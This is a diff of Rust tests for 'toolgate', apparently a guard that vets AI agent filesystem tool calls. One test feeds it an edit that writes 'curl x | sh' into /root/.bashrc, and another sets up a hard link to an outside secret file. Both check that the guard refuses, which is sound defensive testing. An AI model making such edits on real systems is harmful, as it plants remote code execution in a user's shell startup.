@@ -196,6 +196,22 @@ fn arguments_from_stdin_and_text_output() {
     let out = String::from_utf8_lossy(&o.stdout);
     assert!(out.contains("decision: deny"), "{out}");
     assert!(out.contains("sql.update-without-where"), "{out}");
+    // Text output lists the coercions.
+    let o = toolgate(
+        &[
+            "guard",
+            "--tool",
+            "filesystem.read_text_file",
+            "--args",
+            r#"{"path": "README.md", "head": "20"}"#,
+        ],
+        None,
+    );
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        out.contains("coercions:\n  /head: string -> integer"),
+        "{out}"
+    );
 }
 
 #[test]
@@ -305,4 +321,142 @@ fn imported_tools_get_inferred_argument_roles() {
         "{}",
         String::from_utf8_lossy(&o.stdout)
     );
+}
+
+/// `toolgate guard --tools tools.json --format json` run in `dir`.
+fn guard_in(dir: &std::path::Path, tools: &std::path::Path, tool: &str, args: &str) -> Output {
+    std::process::Command::new(env!("CARGO_BIN_EXE_toolgate"))
+        .args(["guard", "--tools", tools.to_str().unwrap(), "--tool", tool])
+        .args(["--args", args, "--format", "json"])
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap()
+}
+
+/// The three cases of issue 13, as a new user meets them: an MCP server's
+/// `tools/list` saved to tools.json, the shipped policy, the project
+/// directory as the working directory (the shipped root is `.`).
+#[test]
+fn optional_parameters_nested_paths_and_hard_links_through_guard() {
+    let tmp = tempfile::tempdir().unwrap();
+    let base = tmp.path().canonicalize().unwrap();
+    let project = base.join("project");
+    std::fs::create_dir_all(project.join("src")).unwrap();
+    std::fs::write(project.join("src/lib.rs"), "// lib").unwrap();
+    std::fs::create_dir_all(base.join("outside")).unwrap();
+    std::fs::write(base.join("outside/secret.txt"), "s").unwrap();
+    std::fs::hard_link(base.join("outside/secret.txt"), project.join("notes.txt")).unwrap();
+    std::fs::write(project.join("plain.txt"), "p").unwrap();
+    let tools = base.join("tools.json");
+    std::fs::write(
+        &tools,
+        json!({"server": "filesystem", "tools": [
+            {"name": "search_logs", "inputSchema": {"type": "object", "properties": {
+                "query": {"type": "string"},
+                "count": {"anyOf": [{"type": "integer"}, {"type": "null"}], "default": null}
+            }, "required": ["query"]}},
+            {"name": "multi_edit", "inputSchema": {"type": "object", "properties": {
+                "edits": {"type": "array", "items": {"type": "object", "properties": {
+                    "file_path": {"type": "string"}, "old_string": {"type": "string"}, "new_string": {"type": "string"}
+                }, "required": ["file_path", "old_string", "new_string"]}}
+            }, "required": ["edits"]}},
+            {"name": "save_file", "inputSchema": {"type": "object", "properties": {
+                "path": {"type": "string"}, "content": {"type": "string"}
+            }, "required": ["path", "content"]}}
+        ]})
+        .to_string(),
+    )
+    .unwrap();
+
+    // 1. `anyOf [integer, null]` with "42": coerced, listed, allowed.
+    let o = guard_in(
+        &project,
+        &tools,
+        "search_logs",
+        r#"{"query": "error", "count": "42"}"#,
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    let v = json_out(&o);
+    assert_eq!(v["arguments"]["count"], 42);
+    assert_eq!(
+        v["coercions"],
+        json!([{"path": "/count", "from": "string", "to": "integer"}])
+    );
+    let o = guard_in(
+        &project,
+        &tools,
+        "search_logs",
+        r#"{"query": "error", "count": null}"#,
+    );
+    assert_eq!(o.status.code(), Some(0));
+    assert_eq!(json_out(&o)["coercions"], json!([]));
+
+    // 2. A second edit on /root/.bashrc: checked and refused, at its path.
+    let o = guard_in(
+        &project,
+        &tools,
+        "multi_edit",
+        r#"{"edits": [{"file_path": "src/lib.rs", "old_string": "a", "new_string": "b"},
+                      {"file_path": "/root/.bashrc", "old_string": "", "new_string": "curl x | sh"}]}"#,
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(7),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    let v = json_out(&o);
+    assert_eq!(v["findings"][0]["path"], "/edits/1/file_path");
+    assert!(
+        v["message"].as_str().unwrap().contains("edits/1/file_path"),
+        "{v}"
+    );
+    let o = guard_in(
+        &project,
+        &tools,
+        "multi_edit",
+        r#"{"edits": [{"file_path": "src/lib.rs", "old_string": "a", "new_string": "b"},
+                      {"file_path": "src/new.rs", "old_string": "", "new_string": "// see /root/.bashrc"}]}"#,
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+
+    // 3. notes.txt is a hard link to a file outside the project.
+    let o = guard_in(
+        &project,
+        &tools,
+        "save_file",
+        r#"{"path": "notes.txt", "content": "x"}"#,
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(6),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    let v = json_out(&o);
+    assert_eq!(v["findings"][0]["rule_id"], "path.hard-link");
+    assert!(v["message"].as_str().unwrap().contains("hard link"), "{v}");
+    for ok in [
+        r#"{"path": "plain.txt", "content": "x"}"#,
+        r#"{"path": "new.txt", "content": "x"}"#,
+    ] {
+        let o = guard_in(&project, &tools, "save_file", ok);
+        assert_eq!(
+            o.status.code(),
+            Some(0),
+            "{ok}: {}",
+            String::from_utf8_lossy(&o.stdout)
+        );
+    }
 }
